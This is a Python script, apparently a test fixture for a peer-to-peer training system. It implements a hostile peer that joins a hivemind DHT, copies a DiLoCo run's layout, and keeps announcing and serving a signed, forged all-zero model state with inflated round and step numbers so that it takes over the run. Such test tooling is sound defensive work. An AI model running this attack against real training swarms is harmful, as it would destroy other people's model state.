"""A foreign peer that tries to take over a DiLoCo run: stock hivemind, records built by hand, no swarmnet code.

Usage: ``python diloco_attacker.py INITIAL_PEER RUN COUNT_FILE``. It joins the DHT under its own
Ed25519 key, copies the run's model layout and state size from an honest trainer's record, then
keeps announcing (signed with its own key, in its own slots) an all-zero state at round 10^6, step
10^7, and a progress record at that step, and serves that state's parts to anyone who asks. It
prints ``ready <peer id>`` once its records are stored, and writes how many parts it served to COUNT_FILE.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import signal
import struct
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import base58
import hivemind
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

ROUNDS, STEP = 10**6, 10**7
HEADER = struct.Struct("<4sQQQ")  # the state blob's header: magic, step, rounds, numel
MAX_PARTS = 64
MIN_PART = 4 << 20  # the trainers' default part size


class Attacker:
    def __init__(self, run: str, count_file: Path) -> None:
        self.run, self.count_file = run, count_file
        self.key = Ed25519PrivateKey.generate()
        raw = serialization.Encoding.Raw
        self.public = self.key.public_key().public_bytes(raw, serialization.PublicFormat.Raw)
        self.seed = self.key.private_bytes(raw, serialization.PrivateFormat.Raw, serialization.NoEncryption())
        self.peer_id = base58.b58encode(bytes([0x00, 36, 0x08, 0x01, 0x12, 32]) + self.public).decode()
        self.served = 0
        self.blob = b""
        self.part_size = MIN_PART

    def libp2p_key(self) -> bytes:
        """The key as a libp2p PrivateKey protobuf (type Ed25519, seed + public key), for the p2p daemon."""
        return bytes([0x08, 0x01, 0x12, 64]) + self.seed + self.public

    def envelope(self, key: str, kind: str, payload: dict[str, Any], ttl: float) -> tuple[bytes, float]:
        now = time.time()
        body = {
            "protocol_version": 1, "kind": kind, "peer_id": self.peer_id, "key": key, "subkey": self.peer_id,
            "timestamp": now, "expires_at": now + ttl, "payload": payload,
        }  # fmt: skip
        data = json.dumps(body, separators=(",", ":"), sort_keys=True).encode()
        signature = self.key.sign(b"swarmnet-record\x00" + data)
        return b"SWR1" + self.public + signature + data, now + ttl

    def forge(self, layout: str, numel: int) -> dict[str, Any]:
        """The all-zero state in the trainers' blob layout, and the announcement that describes it."""
        self.blob = HEADER.pack(b"SWDS", STEP, ROUNDS, numel) + bytes(8 * numel)
        self.part_size = max(MIN_PART, -(-len(self.blob) // MAX_PARTS))
        cut = range(0, len(self.blob), self.part_size)
        return {
            "layout": layout, "rounds": ROUNDS, "step": STEP, "digest": hashlib.sha256(self.blob).hexdigest(),
            "size": len(self.blob), "part_size": self.part_size,
            "parts": [hashlib.sha256(self.blob[i : i + self.part_size]).hexdigest() for i in cut],
        }  # fmt: skip

    async def serve(self, info: Any, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One framed request (DATA then END: kind byte, 8-byte big-endian length) -> the part, then END."""
        try:
            _kind, length = struct.unpack(">BQ", await reader.readexactly(9))
            request = json.loads(await reader.readexactly(length))
            await reader.readexactly(9)  # END
            index = int(request["part"])
            part = self.blob[index * self.part_size : (index + 1) * self.part_size]
            writer.write(struct.pack(">BQ", 0, len(part)) + part + struct.pack(">BQ", 1, 0))
            await writer.drain()
            self.served += 1
            self.count_file.write_text(str(self.served))
        finally:
            writer.close()


def honest_record(dht: hivemind.DHT, key: str) -> dict[str, Any]:
    """The payload of any trainer's state announcement (the JSON body after magic, key and signature)."""
    while True:
        found = dht.get(key, latest=True)
        if found is not None and isinstance(found.value, dict):
            for item in found.value.values():
                if isinstance(item.value, bytes) and item.value.startswith(b"SWR1"):
                    payload: dict[str, Any] = json.loads(item.value[100:])["payload"]
                    return payload
        time.sleep(0.5)


def join(attacker: Attacker, initial_peer: str) -> hivemind.DHT:
    """A stock hivemind DHT node (and p2p daemon) under the attacker's key."""
    attacker.count_file.write_text("0")
    with tempfile.TemporaryDirectory() as folder:
        key_path = Path(folder) / "key"
        key_path.write_bytes(attacker.libp2p_key())
        return hivemind.DHT(
            initial_peers=[initial_peer], host_maddrs=["/ip4/127.0.0.1/tcp/0"], identity_path=str(key_path),
            check_if_identity_free=False, start=True,
        )  # fmt: skip


async def main(attacker: Attacker, dht: hivemind.DHT) -> None:
    run = attacker.run
    try:
        honest = honest_record(dht, f"{run}/diloco-state")
        announcement = attacker.forge(honest["layout"], (honest["size"] - HEADER.size) // 8)
        p2p = await dht.replicate_p2p()
        await p2p.add_binary_stream_handler(f"{run}.diloco-state", attacker.serve)
        progress = {"layout": honest["layout"], "step": STEP}
        announced = False
        while True:
            for key, kind, payload in [
                (f"{run}/diloco-state", "diloco_state", announcement),
                (f"{run}/diloco-progress", "diloco_progress", progress),
            ]:
                value, expires = attacker.envelope(key, kind, payload, ttl=60.0)
                stored = await dht.store(key, value, expires, subkey=attacker.peer_id, return_future=True)
                assert stored, f"the DHT refused our {kind} record"
            if not announced:
                print(f"ready {attacker.peer_id}", flush=True)
                announced = True
            await asyncio.sleep(2.0)
    finally:
        dht.shutdown()


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    attacker = Attacker(sys.argv[2], Path(sys.argv[3]))
    asyncio.run(main(attacker, join(attacker, sys.argv[1])))
